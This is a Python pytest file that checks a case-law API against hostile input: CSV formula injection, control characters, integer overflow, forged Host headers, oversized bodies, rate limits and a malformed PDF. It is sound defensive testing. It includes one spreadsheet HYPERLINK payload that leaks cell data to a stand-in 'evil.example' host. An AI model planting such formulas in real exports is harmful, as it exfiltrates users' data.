"""Nothing lost to hostile input: formulas in exports, control characters and huge numbers, forged hosts, oversized
chunked bodies, broken PDFs, pages without limits, keys that share a name, and who-edited-what for the public."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from caselaw.api import create_app
from caselaw.config import Settings
from caselaw.selection import CandidateDraft, open_selection_store
from caselaw.store import open_store
from caselaw.store.keys import KeyStore
from tests.api.conftest import PDF_CASE, Keys, api_settings, bearer
from tests.hostile import looping_page_tree_pdf

API = "/api/v1"
SELECTION = f"{API}/selection"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def pending(**changes: object) -> dict[str, Any]:
    """The body of a proposal of a pending case (our own example)."""
    body: dict[str, Any] = {
        "name": "Tenants of Block 4 v. Ruritania City",
        "forum": "un-cescr",
        "state": "ES",
        "proposer": {"organisation": "Tenants' Network"},
        "summary": "Families evicted from public housing without any alternative accommodation.",
    }
    return body | changes


def problem_fields(response: Any) -> list[str]:
    """The locations a 422 problem names."""
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    return [error["location"] for error in response.json()["errors"]]


# -- 6. formula injection ----------------------------------------------------------------------------------------


def test_search_csv_export_keeps_a_formula_title_as_text(writer: TestClient, keys: Keys) -> None:
    url = f"{API}/cases/{PDF_CASE}"
    revision = writer.get(url).json()["revision"]
    titles = {"en": {"full": FORMULA, "short": "@SUM(1+1)"}}
    edited = writer.patch(url, json={"revision": revision, "titles": titles}, headers=bearer(keys.editor))
    assert edited.status_code == 200, edited.text
    exported = writer.get(f"{API}/search", params={"q": "", "format": "csv", "lang": "en", "forum": "un-cescr"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    title = next(row["title"] for row in rows if row["id"] == PDF_CASE)
    assert title == "'" + FORMULA, "a spreadsheet shows the title; it never runs it"


# -- 7. control characters and huge integers --------------------------------------------------------------------


def test_a_nul_in_a_name_is_refused_naming_the_field(writer: TestClient, keys: Keys) -> None:
    response = writer.post(
        f"{SELECTION}/candidates", json=pending(name="Tenants\x00 v. City"), headers=bearer(keys.member)
    )
    assert problem_fields(response) == ["body.name"]
    assert "U+0000" in response.json()["detail"]


def test_a_nul_in_a_rationale_is_a_422_not_a_store_outage(writer: TestClient, keys: Keys) -> None:
    cid = writer.post(f"{SELECTION}/candidates", json=pending(), headers=bearer(keys.member)).json()["candidate"]["id"]
    score = {"criterion": "precedent-value", "value": 2, "rationale": "\x00 strong"}
    response = writer.post(f"{SELECTION}/candidates/{cid}/scores", json=score, headers=bearer(keys.steering))
    assert problem_fields(response) == ["body.rationale"]
    nested = {"revision": 1, "changes": {"community": {"who": "the \x1b[31mtenants"}}}
    response = writer.patch(f"{SELECTION}/candidates/{cid}", json=nested, headers=bearer(keys.member))
    assert problem_fields(response) == ["body.changes.community.who"]
    assert writer.get(f"{API}/search", params={"q": "water\x00"}).status_code == 200, "a read keeps nothing"


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("GET", "/criteria?version=9223372036854775808", None),
        ("GET", "/candidates/{cid}/assessment?version=9223372036854775808", None),
        ("POST", "/candidates/{cid}/comments", {"body": "a reply", "parent_id": 2**63}),
        ("PATCH", "/candidates/{cid}", {"revision": 2**63, "changes": {}}),
        ("PATCH", "/candidates/{cid}", {"revision": 1, "changes": {"deadline_kind": 2**64}}),
        ("POST", "/candidates/{cid}/transitions", {"to": "under_discussion", "revision": 2**70}),
    ],
)
def test_integers_out_of_range_are_refused(
    writer: TestClient, keys: Keys, method: str, path: str, body: dict[str, Any] | None
) -> None:
    cid = writer.post(f"{SELECTION}/candidates", json=pending(), headers=bearer(keys.member)).json()["candidate"]["id"]
    response = writer.request(
        method, SELECTION + path.format(cid=cid), json=body, headers=bearer(keys.steering)
    )  # fmt: skip
    assert problem_fields(response), "an OverflowError used to answer 500"


def test_case_edit_revision_is_bounded(writer: TestClient, keys: Keys) -> None:
    response = writer.patch(f"{API}/cases/{PDF_CASE}", json={"revision": 2**63}, headers=bearer(keys.editor))
    assert problem_fields(response) == ["body.revision"]


def test_a_nul_already_stored_does_not_break_the_xlsx_export(
    writer: TestClient, writable_dir: Path, keys: Keys
) -> None:
    # Written before the edge refused it (or by another program): the export drops what a workbook cannot hold.
    with open_selection_store(Settings(data_dir=writable_dir)) as store:
        draft = CandidateDraft.model_validate(pending(name="Stored\x00 with a NUL v. City"))
        stored = store.create(draft, actor="an earlier version")
    response = writer.get(f"{SELECTION}/candidates/export", params={"format": "xlsx"}, headers=bearer(keys.steering))
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    names = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names[stored.id] == "Stored with a NUL v. City"


# -- 8. ownership, history, body limits, pages, hosts, docs ------------------------------------------------------


def test_a_second_key_with_the_same_name_does_not_own_the_first_ones_candidates(
    writer: TestClient, writable_dir: Path
) -> None:
    with open_store(Settings(data_dir=writable_dir)) as store:
        first = KeyStore(store).create("Observatorio DESC", "member")[1]
        second = KeyStore(store).create("Observatorio DESC", "member")[1]
    view = writer.post(f"{SELECTION}/candidates", json=pending(), headers=bearer(first)).json()["candidate"]
    change = {"revision": view["revision"], "changes": {"docket": "E/C.12/D/1/2026"}}
    refused = writer.patch(f"{SELECTION}/candidates/{view['id']}", json=change, headers=bearer(second))
    assert refused.status_code == 403 and refused.json()["code"] == "forbidden"
    accepted = writer.patch(f"{SELECTION}/candidates/{view['id']}", json=change, headers=bearer(first))
    assert accepted.status_code == 200, accepted.text


def test_the_public_case_history_names_no_editor(writer: TestClient, keys: Keys) -> None:
    url = f"{API}/cases/{PDF_CASE}"
    revision = writer.get(url).json()["revision"]
    edit = {"revision": revision, "reason": "summary added", "summaries": {"en": "A short summary in our words."}}
    assert writer.patch(url, json=edit, headers=bearer(keys.editor)).status_code == 200
    key_id = keys.editor.split("_")[1]
    for headers in ({}, bearer(keys.member), bearer(keys.steering)):
        history = writer.get(f"{url}/history", headers=headers)
        assert history.status_code == 200
        assert "Test editor" not in history.text and key_id not in history.text
        assert {entry["actor"] for entry in history.json()} == {"editor"}
    full = writer.get(f"{url}/history", headers=bearer(keys.editor)).json()
    assert any("Test editor" in entry["actor"] and key_id in entry["actor"] for entry in full)


def test_a_chunked_body_over_the_limit_is_a_413(data_dir: Path, keys: Keys) -> None:
    with TestClient(create_app(api_settings(data_dir, request_max_bytes=1024))) as small:

        def chunks() -> Iterator[bytes]:
            yield b'{"name": "'
            for _ in range(10):
                yield b"x" * 512
            yield b'"}'

        # A generator body goes out without Content-Length: the limit is found while reading.
        response = small.post(
            f"{SELECTION}/candidates",
            content=chunks(),
            headers={**bearer(keys.member), "Content-Type": "application/json"},
        )
        assert response.status_code == 413, response.text
        assert response.json()["code"] == "request-too-large"


@pytest.mark.parametrize("path", ["/", "/embed", f"/cases/{PDF_CASE}", "/committee"])
def test_pages_are_rate_limited_like_the_api(data_dir: Path, path: str) -> None:
    with TestClient(create_app(api_settings(data_dir, rate_limit_per_minute=2))) as limited:
        statuses = [limited.get(path).status_code for _ in range(3)]
        assert statuses[:2] == [200, 200] and statuses[2] == 429
        assert limited.get("/static/ui.css").status_code == 200, "static files are not limited"


def test_a_forged_host_is_refused_and_never_echoed(client: TestClient) -> None:
    for path in (f"{API}/search?q=water&size=1", "/embed/snippet", f"/cases/{PDF_CASE}"):
        response = client.get(path, headers={"Host": "evil.example"})
        assert response.status_code == 400, path
        assert response.json()["code"] == "host-not-allowed"
        assert "evil.example" not in response.headers.get("link", "")
    assert client.get(f"{API}/healthz", headers={"Host": "10.0.0.7:8000"}).status_code == 200, "probes ask by address"
    allowed = client.get(f"{API}/search", params={"q": "water", "size": 1})
    assert allowed.headers["link"].startswith("<http://testserver/")


def test_allowed_hosts_come_from_the_settings_and_the_public_url(data_dir: Path) -> None:
    settings = api_settings(data_dir, allowed_hosts=[".example.org"], public_url="https://caselaw.example.net/")
    with TestClient(create_app(settings)) as configured:
        for host, status in (("example.org", 200), ("api.example.org:8443", 200), ("caselaw.example.net", 200),
                             ("testserver", 400), ("example.org.evil", 400)):  # fmt: skip
            assert configured.get(f"{API}/taxonomy", headers={"Host": host}).status_code == status, host
    with TestClient(create_app(api_settings(data_dir, allowed_hosts=["*"]))) as anything:
        assert anything.get(f"{API}/taxonomy", headers={"Host": "anything.example"}).status_code == 200


def test_docs_need_no_inline_script_or_style(client: TestClient) -> None:
    page = client.get("/docs")
    csp = page.headers["Content-Security-Policy"]
    assert "'unsafe-inline'" not in csp and "script-src 'self'" in csp and "style-src 'self'" in csp
    assert "<script>" not in page.text and "<style" not in page.text and " style=" not in page.text
    init = client.get("/docs/init.js")
    assert init.status_code == 200 and "SwaggerUIBundle" in init.text


# -- 3. a malformed PDF through the upload API ------------------------------------------------------------------


def test_a_pdf_whose_page_tree_loops_is_a_422_and_is_quarantined(
    writer: TestClient, writable_dir: Path, keys: Keys
) -> None:
    data = looping_page_tree_pdf()
    response = writer.post(
        f"{API}/documents", files={"file": ("loop.pdf", data, "application/pdf")}, headers=bearer(keys.editor)
    )
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["code"] == "corrupt-pdf" and "loop.pdf" in response.json()["detail"]
    reasons = [json.loads(p.read_text(encoding="utf-8")) for p in (writable_dir / "quarantine").glob("*/reason.json")]
    assert "CorruptPdf" in [reason["error"] for reason in reasons], "the refused file is kept with its reason"
    assert writer.get(f"{API}/healthz").status_code == 200
